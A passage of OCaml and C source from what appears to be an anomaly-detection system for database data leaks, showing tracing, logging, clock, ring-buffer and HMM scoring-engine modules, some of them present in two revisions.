          start_ns = t0;
          dur_ns = dur;
          attrs;
        }
    in
    match f () with
    | v ->
        finish ();
        v
    | exception e ->
        finish ();
        raise e
  end

(* --- Chrome trace_event export ----------------------------------------- *)

let us ns = Int64.to_float ns /. 1e3

let span_event ~pid ~epoch sp =
  let args =
    [
      ("trace_id", Json.string (string_of_int sp.trace_id));
      ("span_id", Json.string (string_of_int sp.span_id));
    ]
    @ (match sp.parent with
      | Some p -> [ ("parent", Json.string (string_of_int p)) ]
      | None -> [])
    @ List.map (fun (k, v) -> (k, Json.string v)) sp.attrs
  in
  Json.obj
    [
      ("name", Json.string sp.name);
      ("cat", Json.string "adprom");
      ("ph", Json.string "X");
      ("pid", string_of_int pid);
      ("tid", string_of_int sp.domain);
      ("ts", Printf.sprintf "%.3f" (us (Int64.sub sp.start_ns epoch)));
      ("dur", Printf.sprintf "%.3f" (us sp.dur_ns));
      ("args", Json.obj args);
    ]

let render events =
  "{\"traceEvents\":[\n" ^ String.concat ",\n" events
  ^ "\n],\"displayTimeUnit\":\"ms\"}\n"

let to_chrome_json spans =
  let epoch =
    List.fold_left
      (fun acc sp -> if sp.start_ns < acc then sp.start_ns else acc)
      (match spans with [] -> 0L | sp :: _ -> sp.start_ns)
      spans
  in
  render (List.map (span_event ~pid:1 ~epoch) spans)

let to_chrome_json_cluster groups =
  (* Each group is one process's spans, timed by that process's own
     monotonic clock; [offset_ns] maps it onto the reference clock
     (local_ns - offset_ns = reference_ns, i.e. offset = local - ref,
     what a min-RTT clock probe estimates). Aligning first and only
     then picking the epoch keeps cross-process ordering. *)
  let aligned =
    List.map
      (fun (name, offset_ns, spans) ->
        ( name,
          List.map
            (fun sp -> { sp with start_ns = Int64.sub sp.start_ns offset_ns })
            spans ))
      groups
  in
  let epoch =
    List.fold_left
      (fun acc (_, spans) ->
        List.fold_left
          (fun acc sp -> if sp.start_ns < acc then sp.start_ns else acc)
          acc spans)
      Int64.max_int aligned
  in
  let epoch = if epoch = Int64.max_int then 0L else epoch in
  let events =
    List.concat
      (List.mapi
         (fun i (name, spans) ->
           let pid = i + 1 in
           Json.obj
             [
               ("name", Json.string "process_name");
               ("ph", Json.string "M");
               ("pid", string_of_int pid);
               ("args", Json.obj [ ("name", Json.string name) ]);
             ]
           :: List.map (span_event ~pid ~epoch) spans)
         aligned)
  in
  render events

let dump_chrome path =
  let oc = open_out path in
  output_string oc (to_chrome_json (spans ()));
  close_out oc

let dump_chrome_cluster path groups =
  let oc = open_out path in
  output_string oc (to_chrome_json_cluster groups);
  close_out oc

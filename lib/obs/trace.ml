type span = {
  name : string;
  trace_id : int;
  span_id : int;
  parent : int option;
  domain : int;
  start_ns : int64;
  dur_ns : int64;
  attrs : (string * string) list;
}

let enabled_flag = Atomic.make false
let set_enabled b = Atomic.set enabled_flag b
let enabled () = Atomic.get enabled_flag

let next_id = Atomic.make 1

(* Per-domain stack of open spans: (trace_id, span_id), innermost
   first. *)
let context : (int * int) list ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref [])

let current_trace_id () =
  match !(Domain.DLS.get context) with [] -> None | (tid, _) :: _ -> Some tid

let current_span_id () =
  match !(Domain.DLS.get context) with [] -> None | (_, sid) :: _ -> Some sid

(* Finished spans: a bounded ring plus the hook list, one mutex. *)
let mutex = Mutex.create ()
let ring = ref (Ring.create 65536)

type hook = int

let hooks : (int * (span -> unit)) list ref = ref []
let next_hook = ref 0

let set_capacity n =
  Mutex.lock mutex;
  (match Ring.create n with
  | r -> ring := r
  | exception e ->
      Mutex.unlock mutex;
      raise e);
  Mutex.unlock mutex

let spans () =
  Mutex.lock mutex;
  let l = Ring.to_list !ring in
  Mutex.unlock mutex;
  l

let span_count () =
  Mutex.lock mutex;
  let n = Ring.pushed !ring in
  Mutex.unlock mutex;
  n

let clear () =
  Mutex.lock mutex;
  Ring.clear !ring;
  Mutex.unlock mutex

let on_span_end f =
  Mutex.lock mutex;
  incr next_hook;
  let id = !next_hook in
  hooks := (id, f) :: !hooks;
  Mutex.unlock mutex;
  id

let remove_hook id =
  Mutex.lock mutex;
  hooks := List.filter (fun (i, _) -> i <> id) !hooks;
  Mutex.unlock mutex

let record sp =
  Mutex.lock mutex;
  Ring.push !ring sp;
  let hs = !hooks in
  Mutex.unlock mutex;
  List.iter
    (fun (id, f) -> try f sp with _ -> remove_hook id)
    hs

let with_span ?attrs name f =
  if not (Atomic.get enabled_flag) then f ()
  else begin
    let stack = Domain.DLS.get context in
    let parent, trace_id, span_id =
      let sid = Atomic.fetch_and_add next_id 1 in
      match !stack with
      | [] -> (None, sid, sid)
      | (tid, psid) :: _ -> (Some psid, tid, sid)
    in
    stack := (trace_id, span_id) :: !stack;
    let t0 = Clock.monotonic_ns () in
    let finish () =
      let dur = Int64.sub (Clock.monotonic_ns ()) t0 in
      (stack :=
         match !stack with
         | (_, sid) :: rest when sid = span_id -> rest
         | other -> other (* a thunk that unwound the stack itself *));
      let attrs =
        match attrs with None -> [] | Some f -> ( try f () with _ -> [])
      in
      record
        {
          name;
          trace_id;
          span_id;
          parent;
          domain = (Domain.self () :> int);
          start_ns = t0;
          dur_ns = dur;
          attrs;
        }
    in
    match f () with
    | v ->
        finish ();
        v
    | exception e ->
        finish ();
        raise e
  end

(* --- Chrome trace_event export ----------------------------------------- *)

let to_chrome_json spans =
  let epoch =
    List.fold_left
      (fun acc sp -> if sp.start_ns < acc then sp.start_ns else acc)
      (match spans with [] -> 0L | sp :: _ -> sp.start_ns)
      spans
  in
  let us ns = Int64.to_float ns /. 1e3 in
  let event sp =
    let args =
      [
        ("trace_id", Json.string (string_of_int sp.trace_id));
        ("span_id", Json.string (string_of_int sp.span_id));
      ]
      @ (match sp.parent with
        | Some p -> [ ("parent", Json.string (string_of_int p)) ]
        | None -> [])
      @ List.map (fun (k, v) -> (k, Json.string v)) sp.attrs
    in
    Json.obj
      [
        ("name", Json.string sp.name);
        ("cat", Json.string "adprom");
        ("ph", Json.string "X");
        ("pid", "1");
        ("tid", string_of_int sp.domain);
        ("ts", Printf.sprintf "%.3f" (us (Int64.sub sp.start_ns epoch)));
        ("dur", Printf.sprintf "%.3f" (us sp.dur_ns));
        ("args", Json.obj args);
      ]
  in
  "{\"traceEvents\":[\n"
  ^ String.concat ",\n" (List.map event spans)
  ^ "\n],\"displayTimeUnit\":\"ms\"}\n"

let dump_chrome path =
  let oc = open_out path in
  output_string oc (to_chrome_json (spans ()));
  close_out oc

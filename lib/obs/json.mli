(** Minimal JSON emission helpers shared by the event log and the
    Chrome trace export. Emission only — nothing here parses. *)

val escape : string -> string
(** JSON string escaping (quotes, backslash, control characters),
    without the surrounding quotes. *)

val string : string -> string
(** A quoted, escaped JSON string literal. *)

val float : float -> string
(** A JSON-safe number: non-finite floats become the strings
    ["inf"], ["-inf"], ["nan"] (JSON has no literals for them). *)

val obj : (string * string) list -> string
(** [obj fields] where each value is already rendered JSON. *)

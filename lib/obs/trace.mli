(** Hierarchical tracing: spans with monotonic-clock timing, trace /
    span ids and per-domain context, near-zero-cost when disabled.

    A span covers the execution of a thunk ({!with_span}). Spans nest
    through a per-domain context stack: a span opened while another is
    running becomes its child and inherits its trace id; a span opened
    with an empty stack roots a fresh trace. When tracing is disabled
    (the default) [with_span] is one atomic load and a tail call — no
    ids, no clock reads, no allocation — so instrumentation can stay
    in production code.

    Finished spans land in a bounded global buffer (completion order)
    and are fanned out to registered {!on_span_end} hooks — the daemon
    uses one to export span durations into its metrics histograms.
    {!to_chrome_json} renders spans in the Chrome [trace_event] format
    ([chrome://tracing], Perfetto). *)

type span = {
  name : string;
  trace_id : int;  (** id of the root span of this trace *)
  span_id : int;  (** unique across the process *)
  parent : int option;  (** enclosing span id, [None] for roots *)
  domain : int;  (** domain that ran the span *)
  start_ns : int64;  (** {!Clock.monotonic_ns} at entry *)
  dur_ns : int64;
  attrs : (string * string) list;
}

val set_enabled : bool -> unit
(** Also the off switch for {!on_span_end} hooks. Disabling does not
    drop already collected spans. *)

val enabled : unit -> bool

val with_span :
  ?attrs:(unit -> (string * string) list) -> string -> (unit -> 'a) -> 'a
(** Run the thunk under a span. [attrs] is evaluated once, after the
    thunk finishes (so it can report results via a ref) and only when
    tracing is enabled; if it raises, the span keeps empty attrs. The
    span is recorded even when the thunk raises, and the exception is
    re-raised. *)

val fresh_id : unit -> int
(** Allocate the next span/trace id — for spans whose timing is
    measured externally ({!record_span}) or propagated across
    processes (the router stamps each batch with one). *)

val record_span :
  ?attrs:(string * string) list ->
  ?trace_id:int ->
  name:string ->
  start_ns:int64 ->
  dur_ns:int64 ->
  unit ->
  unit
(** Record an externally-timed span (no context-stack involvement, no
    parent): what a cluster node uses to materialize the router→node
    wire span from a batch's propagated trace id and send timestamp.
    [trace_id] defaults to a fresh root id. Unlike {!with_span} this is
    {e not} gated on {!enabled} — propagated trace context only arrives
    because the sending process is already tracing, and the receiving
    node must not need its own switch flipped to answer span
    collection. *)

val current_trace_id : unit -> int option
(** The trace id of the innermost open span on this domain, if any —
    what log events and collector tags join traces on. *)

val current_span_id : unit -> int option

val set_capacity : int -> unit
(** Bound on retained finished spans (default 65536, oldest dropped
    first). Resetting the capacity clears collected spans.
    @raise Invalid_argument on a negative capacity. *)

val spans : unit -> span list
(** Retained finished spans, completion order. *)

val span_count : unit -> int
(** Spans finished since the last {!clear}, including any that
    rotated out of the bounded buffer. *)

val clear : unit -> unit
(** Drop collected spans (ids keep increasing; hooks stay). *)

type hook

val on_span_end : (span -> unit) -> hook
(** Called for every finished span while tracing is enabled, on the
    domain that ran the span, outside any internal lock. A raising
    hook is disabled permanently. *)

val remove_hook : hook -> unit

val to_chrome_json : span list -> string
(** Chrome [trace_event] JSON: one complete event (["ph":"X"]) per
    span, timestamps in microseconds relative to the earliest span,
    [tid] = domain, span/trace/parent ids and attrs under ["args"]. *)

val dump_chrome : string -> unit
(** Write [to_chrome_json (spans ())] to a file. *)

val to_chrome_json_cluster : (string * int64 * span list) list -> string
(** Merge several processes' spans onto one timeline. Each group is
    [(process_name, offset_ns, spans)] where [offset_ns] maps that
    process's monotonic clock onto the reference clock
    ([local_ns - offset_ns = reference_ns] — the offset a min-RTT
    clock probe estimates; use [0L] for the reference process itself).
    Groups render as separate Chrome processes (a [process_name]
    metadata event plus [pid] per group) against a shared epoch, so
    router→node handoffs line up across nodes. *)

val dump_chrome_cluster : string -> (string * int64 * span list) list -> unit
(** Write [to_chrome_json_cluster groups] to a file. *)

(** Hierarchical tracing: spans with monotonic-clock timing, trace /
    span ids and per-domain context, near-zero-cost when disabled.

    A span covers the execution of a thunk ({!with_span}). Spans nest
    through a per-domain context stack: a span opened while another is
    running becomes its child and inherits its trace id; a span opened
    with an empty stack roots a fresh trace. When tracing is disabled
    (the default) [with_span] is one atomic load and a tail call — no
    ids, no clock reads, no allocation — so instrumentation can stay
    in production code.

    Finished spans land in a bounded global buffer (completion order)
    and are fanned out to registered {!on_span_end} hooks — the daemon
    uses one to export span durations into its metrics histograms.
    {!to_chrome_json} renders spans in the Chrome [trace_event] format
    ([chrome://tracing], Perfetto). *)

type span = {
  name : string;
  trace_id : int;  (** id of the root span of this trace *)
  span_id : int;  (** unique across the process *)
  parent : int option;  (** enclosing span id, [None] for roots *)
  domain : int;  (** domain that ran the span *)
  start_ns : int64;  (** {!Clock.monotonic_ns} at entry *)
  dur_ns : int64;
  attrs : (string * string) list;
}

val set_enabled : bool -> unit
(** Also the off switch for {!on_span_end} hooks. Disabling does not
    drop already collected spans. *)

val enabled : unit -> bool

val with_span :
  ?attrs:(unit -> (string * string) list) -> string -> (unit -> 'a) -> 'a
(** Run the thunk under a span. [attrs] is evaluated once, after the
    thunk finishes (so it can report results via a ref) and only when
    tracing is enabled; if it raises, the span keeps empty attrs. The
    span is recorded even when the thunk raises, and the exception is
    re-raised. *)

val current_trace_id : unit -> int option
(** The trace id of the innermost open span on this domain, if any —
    what log events and collector tags join traces on. *)

val current_span_id : unit -> int option

val set_capacity : int -> unit
(** Bound on retained finished spans (default 65536, oldest dropped
    first). Resetting the capacity clears collected spans.
    @raise Invalid_argument on a negative capacity. *)

val spans : unit -> span list
(** Retained finished spans, completion order. *)

val span_count : unit -> int
(** Spans finished since the last {!clear}, including any that
    rotated out of the bounded buffer. *)

val clear : unit -> unit
(** Drop collected spans (ids keep increasing; hooks stay). *)

type hook

val on_span_end : (span -> unit) -> hook
(** Called for every finished span while tracing is enabled, on the
    domain that ran the span, outside any internal lock. A raising
    hook is disabled permanently. *)

val remove_hook : hook -> unit

val to_chrome_json : span list -> string
(** Chrome [trace_event] JSON: one complete event (["ph":"X"]) per
    span, timestamps in microseconds relative to the earliest span,
    [tid] = domain, span/trace/parent ids and attrs under ["args"]. *)

val dump_chrome : string -> unit
(** Write [to_chrome_json (spans ())] to a file. *)

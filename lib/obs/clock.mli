(** Monotonic time for span durations. Wall-clock time
    ([Unix.gettimeofday]) jumps under NTP adjustment; span intervals
    must not. *)

val monotonic_ns : unit -> int64
(** Nanoseconds on a monotonic clock with an arbitrary epoch. The
    native call is allocation-free. *)

val elapsed_s : int64 -> int64 -> float
(** [elapsed_s t0 t1] in seconds, for two {!monotonic_ns} readings. *)

type 'a t = {
  buf : 'a option array;
  cap : int;
  mutable next : int;  (* total pushes; next mod cap is the write slot *)
}

let create cap =
  if cap < 0 then invalid_arg "Ring.create: negative capacity";
  { buf = Array.make (max cap 1) None; cap; next = 0 }

let capacity t = t.cap
let pushed t = t.next
let length t = min t.next t.cap

let push t x =
  if t.cap > 0 then begin
    t.buf.(t.next mod t.cap) <- Some x;
    t.next <- t.next + 1
  end
  else t.next <- t.next + 1

let to_list t =
  let n = length t in
  let start = t.next - n in
  List.init n (fun i ->
      match t.buf.((start + i) mod t.cap) with
      | Some x -> x
      | None -> assert false)

let clear t =
  Array.fill t.buf 0 (Array.length t.buf) None;
  t.next <- 0

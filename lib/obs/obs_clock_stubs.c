/* Monotonic clock for span timing: CLOCK_MONOTONIC when available,
   falling back to gettimeofday on platforms without it. Exposed both
   boxed and unboxed so the common native call allocates nothing. */

#include <caml/mlvalues.h>
#include <caml/alloc.h>
#include <stdint.h>

#if defined(_WIN32)
#include <windows.h>

int64_t adprom_obs_monotonic_ns(value unit)
{
  LARGE_INTEGER freq, now;
  QueryPerformanceFrequency(&freq);
  QueryPerformanceCounter(&now);
  return (int64_t)((double)now.QuadPart * 1e9 / (double)freq.QuadPart);
}

#else
#include <time.h>
#include <sys/time.h>

int64_t adprom_obs_monotonic_ns(value unit)
{
  (void)unit;
#if defined(CLOCK_MONOTONIC)
  struct timespec ts;
  if (clock_gettime(CLOCK_MONOTONIC, &ts) == 0)
    return (int64_t)ts.tv_sec * 1000000000 + (int64_t)ts.tv_nsec;
#endif
  {
    struct timeval tv;
    gettimeofday(&tv, NULL);
    return (int64_t)tv.tv_sec * 1000000000 + (int64_t)tv.tv_usec * 1000;
  }
}
#endif

CAMLprim value adprom_obs_monotonic_ns_byte(value unit)
{
  return caml_copy_int64(adprom_obs_monotonic_ns(unit));
}

external monotonic_ns : unit -> (int64[@unboxed])
  = "adprom_obs_monotonic_ns_byte" "adprom_obs_monotonic_ns"
[@@noalloc]

let elapsed_s t0 t1 = Int64.to_float (Int64.sub t1 t0) *. 1e-9

type level =
  | Debug
  | Info
  | Warn
  | Error

let level_index = function Debug -> 0 | Info -> 1 | Warn -> 2 | Error -> 3

let level_to_string = function
  | Debug -> "debug"
  | Info -> "info"
  | Warn -> "warn"
  | Error -> "error"

let level_of_string = function
  | "debug" -> Some Debug
  | "info" -> Some Info
  | "warn" | "warning" -> Some Warn
  | "error" -> Some Error
  | _ -> None

type value =
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string

type event = {
  time : float;
  level : level;
  scope : string;
  message : string;
  fields : (string * value) list;
}

let value_to_json = function
  | Bool b -> if b then "true" else "false"
  | Int i -> string_of_int i
  | Float f -> Json.float f
  | Str s -> Json.string s

let event_to_json e =
  Json.obj
    ([
       ("ts", Printf.sprintf "%.6f" e.time);
       ("level", Json.string (level_to_string e.level));
       ("scope", Json.string e.scope);
       ("msg", Json.string e.message);
     ]
    @ List.map (fun (k, v) -> (k, value_to_json v)) e.fields)

let value_to_string = function
  | Bool b -> string_of_bool b
  | Int i -> string_of_int i
  | Float f -> Printf.sprintf "%g" f
  | Str s -> s

let event_to_string e =
  Printf.sprintf "%-5s %s: %s%s"
    (String.uppercase_ascii (level_to_string e.level))
    e.scope e.message
    (String.concat ""
       (List.map (fun (k, v) -> Printf.sprintf " %s=%s" k (value_to_string v)) e.fields))

type sink =
  | Null
  | Stderr
  | Channel of out_channel

(* Internally a file sink keeps its path and byte budget so the writer
   can roll it over; the public [sink] type stays channel-shaped. *)
type isink =
  | INull
  | IStderr
  | IChannel of out_channel
  | IFile of {
      path : string;
      max_bytes : int;
      mutable oc : out_channel;
      mutable written : int;
    }

(* The threshold is read on the hot path without the mutex: a stale
   read drops or keeps a borderline event, never corrupts anything. *)
let threshold_ref = Atomic.make (level_index Info)
let sink_mutex = Mutex.create ()
let sink_ref = ref INull

let set_isink s =
  Mutex.lock sink_mutex;
  sink_ref := s;
  Mutex.unlock sink_mutex

let set_sink = function
  | Null -> set_isink INull
  | Stderr -> set_isink IStderr
  | Channel oc -> set_isink (IChannel oc)

let open_append path = open_out_gen [ Open_append; Open_creat ] 0o644 path

let to_file ?max_bytes path =
  match max_bytes with
  | None -> set_isink (IChannel (open_append path))
  | Some max_bytes ->
      if max_bytes <= 0 then invalid_arg "Log.to_file: max_bytes must be > 0";
      let oc = open_append path in
      let written =
        match (Unix.fstat (Unix.descr_of_out_channel oc)).Unix.st_size with
        | n -> n
        | exception Unix.Unix_error _ -> 0
      in
      set_isink (IFile { path; max_bytes; oc; written })

let set_threshold l = Atomic.set threshold_ref (level_index l)

let threshold () =
  match Atomic.get threshold_ref with
  | 0 -> Debug
  | 1 -> Info
  | 2 -> Warn
  | _ -> Error

let enabled l = level_index l >= Atomic.get threshold_ref

let write_line oc line =
  output_string oc line;
  output_char oc '\n';
  flush oc

let write_sink e =
  Mutex.lock sink_mutex;
  (match !sink_ref with
  | INull -> ()
  | IStderr -> write_line stderr (event_to_json e)
  | IChannel oc -> write_line oc (event_to_json e)
  | IFile f ->
      let line = event_to_json e in
      let len = String.length line + 1 in
      (* Roll over before the write that would burst the budget: one
         [.1] generation, so disk use is bounded by ~2x max_bytes. An
         event larger than the whole budget still goes out whole. *)
      if f.written > 0 && f.written + len > f.max_bytes then begin
        (try close_out f.oc with Sys_error _ -> ());
        (try Sys.rename f.path (f.path ^ ".1") with Sys_error _ -> ());
        f.oc <- open_out_gen [ Open_trunc; Open_creat; Open_wronly ] 0o644 f.path;
        f.written <- 0
      end;
      write_line f.oc line;
      f.written <- f.written + len);
  Mutex.unlock sink_mutex

let emit ?ring ?(fields = []) level ~scope message =
  if enabled level then begin
    let e = { time = Unix.gettimeofday (); level; scope; message; fields } in
    (match ring with Some r -> Ring.push r e | None -> ());
    write_sink e
  end

type level =
  | Debug
  | Info
  | Warn
  | Error

let level_index = function Debug -> 0 | Info -> 1 | Warn -> 2 | Error -> 3

let level_to_string = function
  | Debug -> "debug"
  | Info -> "info"
  | Warn -> "warn"
  | Error -> "error"

let level_of_string = function
  | "debug" -> Some Debug
  | "info" -> Some Info
  | "warn" | "warning" -> Some Warn
  | "error" -> Some Error
  | _ -> None

type value =
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string

type event = {
  time : float;
  level : level;
  scope : string;
  message : string;
  fields : (string * value) list;
}

let value_to_json = function
  | Bool b -> if b then "true" else "false"
  | Int i -> string_of_int i
  | Float f -> Json.float f
  | Str s -> Json.string s

let event_to_json e =
  Json.obj
    ([
       ("ts", Printf.sprintf "%.6f" e.time);
       ("level", Json.string (level_to_string e.level));
       ("scope", Json.string e.scope);
       ("msg", Json.string e.message);
     ]
    @ List.map (fun (k, v) -> (k, value_to_json v)) e.fields)

let value_to_string = function
  | Bool b -> string_of_bool b
  | Int i -> string_of_int i
  | Float f -> Printf.sprintf "%g" f
  | Str s -> s

let event_to_string e =
  Printf.sprintf "%-5s %s: %s%s"
    (String.uppercase_ascii (level_to_string e.level))
    e.scope e.message
    (String.concat ""
       (List.map (fun (k, v) -> Printf.sprintf " %s=%s" k (value_to_string v)) e.fields))

type sink =
  | Null
  | Stderr
  | Channel of out_channel

(* The threshold is read on the hot path without the mutex: a stale
   read drops or keeps a borderline event, never corrupts anything. *)
let threshold_ref = Atomic.make (level_index Info)
let sink_mutex = Mutex.create ()
let sink_ref = ref Null

let set_sink s =
  Mutex.lock sink_mutex;
  sink_ref := s;
  Mutex.unlock sink_mutex

let to_file path = set_sink (Channel (open_out_gen [ Open_append; Open_creat ] 0o644 path))

let set_threshold l = Atomic.set threshold_ref (level_index l)

let threshold () =
  match Atomic.get threshold_ref with
  | 0 -> Debug
  | 1 -> Info
  | 2 -> Warn
  | _ -> Error

let enabled l = level_index l >= Atomic.get threshold_ref

let write_sink e =
  Mutex.lock sink_mutex;
  (match !sink_ref with
  | Null -> ()
  | Stderr ->
      output_string stderr (event_to_json e);
      output_char stderr '\n';
      flush stderr
  | Channel oc ->
      output_string oc (event_to_json e);
      output_char oc '\n';
      flush oc);
  Mutex.unlock sink_mutex

let emit ?ring ?(fields = []) level ~scope message =
  if enabled level then begin
    let e = { time = Unix.gettimeofday (); level; scope; message; fields } in
    (match ring with Some r -> Ring.push r e | None -> ());
    write_sink e
  end

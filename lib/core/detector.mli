(** The Detection Engine (Sec. IV-B4, IV-D).

    Scores n-length call sequences under the profile's HMM and flags
    them for the security administrator:

    - [Normal]: score above threshold, every (caller, call) pair known;
    - [Data_leak]: anomalous sequence containing a DB-output (labeled)
      call — targeted data is involved;
    - [Out_of_context]: a known library call issued from a function that
      never issued it during training;
    - [Anomalous]: everything else below threshold.

    Since the scoring-engine redesign, [classify] and [monitor] are
    thin wrappers over the compiled {!Scoring} engine (interned
    symbols, allocation-free forward pass, memoized verdicts) obtained
    via {!Scoring.of_profile}; their behaviour is unchanged.
    {!reference_classify} keeps the original uncompiled path as the
    executable specification. *)

type flag = Scoring.flag =
  | Normal
  | Anomalous
  | Data_leak
  | Out_of_context

type verdict = Scoring.verdict = {
  flag : flag;
  score : float;
  unknown_symbol : bool;  (** the window used a call never seen in training *)
  unknown_pair : (string * Analysis.Symbol.t) option;
      (** first out-of-context (caller, call) pair, if any *)
}

val flag_to_string : flag -> string

val classify : Profile.t -> Window.t -> verdict
(** Equivalent to [Scoring.classify (Scoring.of_profile profile)]:
    identical verdicts and bit-for-bit identical scores to
    {!reference_classify}, amortized over the domain-local compiled
    engine. *)

val reference_classify : Profile.t -> Window.t -> verdict
(** The original, uncompiled detection path — no interning, no memo.
    The specification the engine is property-tested against, and the
    pre-compilation baseline of the benches. *)

val monitor : Profile.t -> Runtime.Collector.trace -> (Window.t * verdict) list
(** Slide the profile's window over a run-time trace and classify each
    position — the online detection loop. *)

val worst : verdict list -> flag
(** Most severe flag of a run ([Data_leak] > [Out_of_context] >
    [Anomalous] > [Normal]); [Normal] for the empty list. *)

type surprise = {
  position : int;  (** index within the window *)
  symbol : Analysis.Symbol.t;
  caller : string;
  surprisal : float;  (** -log P(symbol | prefix); infinity if unknown *)
}

val explain : ?top:int -> Profile.t -> Window.t -> surprise list
(** The most surprising positions of a window, most surprising first
    (default [top] 3) — what the security administrator looks at when
    an alarm fires. Symbols outside the alphabet have infinite
    surprisal and always rank first. *)

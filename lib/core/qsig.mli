(** Query-signature profiles — the Sec. VII mitigation for attacks that
    leave the call sequence intact: "recording queries signatures along
    with library calls can mitigate this case".

    Since the [lib/qsig] subsystem landed this module is a thin
    compatibility wrapper over {!Adprom_qsig.Profile}: the historical
    set-of-signatures API below is preserved (including the
    distinguished ["<malformed>"] bucket for unparseable texts), while
    {!profile} / {!engine} expose the underlying constraint-aware
    profile so callers like {!Audit} inherit slot-constraint,
    predicate-widening and cardinality-band checks. *)

type t

val empty : t

val learn : t -> string -> t
(** Add the signature of one raw SQL text (persistent: the argument is
    unchanged). *)

val learn_run : t -> string list -> t

val of_runs : string list list -> t
(** Profile from the query logs of all training runs. *)

val of_logs : (string * int) list list -> t
(** Profile from executed-query logs [(sql, rows)] — also learns
    per-signature cardinality bands. *)

val profile : t -> Adprom_qsig.Profile.t
(** The underlying constraint-aware profile (shared, not copied). *)

val of_profile : Adprom_qsig.Profile.t -> t
(** Wrap an existing profile (shared, not copied). *)

val engine : ?policy:Adprom_qsig.Constraints.policy -> t -> Adprom_qsig.Engine.t
(** Compile the profile for repeated checking (default [Strict]). *)

val known : t -> string -> bool
(** Is this raw SQL's signature in the profile? *)

val unknown_in_run : t -> string list -> string list
(** Signatures of the run not present in the profile, deduplicated, in
    first-appearance order. *)

val signatures : t -> string list
(** Sorted list of learned signatures. *)

val cardinality : t -> int

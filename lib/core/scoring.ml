module Symbol = Analysis.Symbol

type flag =
  | Normal
  | Anomalous
  | Data_leak
  | Out_of_context

type verdict = {
  flag : flag;
  score : float;
  unknown_symbol : bool;
  unknown_pair : (string * Symbol.t) option;
}

(* --- bounded LRU verdict memo ------------------------------------------ *)

module Key = struct
  type t = int array

  let equal (a : int array) (b : int array) =
    let la = Array.length a in
    la = Array.length b
    &&
    let i = ref 0 in
    while !i < la && Array.unsafe_get a !i = Array.unsafe_get b !i do
      incr i
    done;
    !i = la

  (* FNV-1a over the whole window. The stdlib polymorphic hash folds
     only a prefix, which collides badly on stride-1 sliding windows
     (they share long prefixes). *)
  let hash (k : int array) =
    let h = ref 0x811c9dc5 in
    Array.iter (fun v -> h := (!h lxor v) * 0x01000193 land max_int) k;
    !h
end

module Key_tbl = Hashtbl.Make (Key)

type node = {
  node_key : int array;
  node_verdict : verdict;
  mutable lru_prev : node;  (* toward the MRU end *)
  mutable lru_next : node;  (* toward the LRU end *)
}

type cache = {
  capacity : int;
  tbl : node Key_tbl.t;
  sentinel : node;  (* circular list: sentinel.lru_next = MRU, sentinel.lru_prev = LRU *)
  mutable hits : int;
  mutable misses : int;
}

let dummy_verdict =
  { flag = Normal; score = 0.0; unknown_symbol = false; unknown_pair = None }

let cache_create capacity =
  let rec sentinel =
    { node_key = [||]; node_verdict = dummy_verdict; lru_prev = sentinel; lru_next = sentinel }
  in
  {
    capacity;
    tbl = Key_tbl.create (max 16 (min (capacity + 1) 1024));
    sentinel;
    hits = 0;
    misses = 0;
  }

let unlink n =
  n.lru_prev.lru_next <- n.lru_next;
  n.lru_next.lru_prev <- n.lru_prev

let push_front c n =
  let s = c.sentinel in
  n.lru_next <- s.lru_next;
  n.lru_prev <- s;
  s.lru_next.lru_prev <- n;
  s.lru_next <- n

let cache_find c key =
  match Key_tbl.find c.tbl key with
  | node ->
      c.hits <- c.hits + 1;
      unlink node;
      push_front c node;
      Some node.node_verdict
  | exception Not_found ->
      c.misses <- c.misses + 1;
      None

(* [key] must be freshly owned by the cache (never a scratch buffer). *)
let cache_insert c key v =
  if c.capacity > 0 then begin
    let s = c.sentinel in
    let node = { node_key = key; node_verdict = v; lru_prev = s; lru_next = s } in
    push_front c node;
    Key_tbl.replace c.tbl key node;
    if Key_tbl.length c.tbl > c.capacity then begin
      let lru = s.lru_prev in
      if lru != s then begin
        unlink lru;
        Key_tbl.remove c.tbl lru.node_key
      end
    end
  end

let cache_clear c =
  Key_tbl.reset c.tbl;
  c.sentinel.lru_prev <- c.sentinel;
  c.sentinel.lru_next <- c.sentinel

(* --- the compiled engine ----------------------------------------------- *)

type t = {
  profile : Profile.t;
  compiled : Hmm.Compiled.t;
  use_labels : bool;
  track_callers : bool;
  labeled : bool array;  (* per alphabet code *)
  mutable threshold : float;
  caller_ids : (string, int) Hashtbl.t;  (* interned callers *)
  mutable next_caller_id : int;
  pair_stride : int;
  pair_codes : (int, unit) Hashtbl.t;  (* caller_id * stride + code + 1 *)
  mutable static_pairs : (string * Symbol.t, unit) Hashtbl.t option;
      (* statically possible pairs (profile label view); explanation
         gating only, never consulted by [classify] *)
  mutable static_dfa : Analysis.Seqauto.t option;
  mutable dfa_codes : int array;
      (* profile alphabet code -> DFA symbol code; -1 = the automaton
         never emits this symbol (any window containing it is rejected) *)
  mutable gate_enforce : bool;
  mutable gate_checks : int;
  mutable gate_rejections : int;
  cache : cache;
  code_scratch : (int, int array) Hashtbl.t;  (* per-length, reused *)
  key_scratch : (int, int array) Hashtbl.t;
}

let intern_caller t caller =
  match Hashtbl.find t.caller_ids caller with
  | id -> id
  | exception Not_found ->
      let id = t.next_caller_id in
      t.next_caller_id <- id + 1;
      Hashtbl.replace t.caller_ids caller id;
      id

let default_cache_capacity = 8192

let create ?(cache_capacity = default_cache_capacity) profile =
  if cache_capacity < 0 then invalid_arg "Scoring.create: negative cache capacity";
  let t =
    {
      profile;
      compiled = Hmm.Compiled.of_model profile.Profile.model;
      use_labels = profile.Profile.params.Profile.use_labels;
      track_callers = profile.Profile.params.Profile.track_callers;
      labeled = Array.map Symbol.is_labeled profile.Profile.alphabet;
      threshold = profile.Profile.threshold;
      caller_ids = Hashtbl.create 64;
      next_caller_id = 0;
      pair_stride = Array.length profile.Profile.alphabet + 2;
      pair_codes = Hashtbl.create 256;
      static_pairs = None;
      static_dfa = None;
      dfa_codes = [||];
      gate_enforce = false;
      gate_checks = 0;
      gate_rejections = 0;
      cache = cache_create cache_capacity;
      code_scratch = Hashtbl.create 4;
      key_scratch = Hashtbl.create 4;
    }
  in
  Hashtbl.iter
    (fun (caller, sym) () ->
      (* Pairs outside the alphabet cannot arise from train/extend; if
         one ever does, the per-window fallback below still consults the
         raw table, so compiling it away here is safe either way. *)
      match Symbol.Table.find_opt profile.Profile.obs_index sym with
      | Some code ->
          Hashtbl.replace t.pair_codes
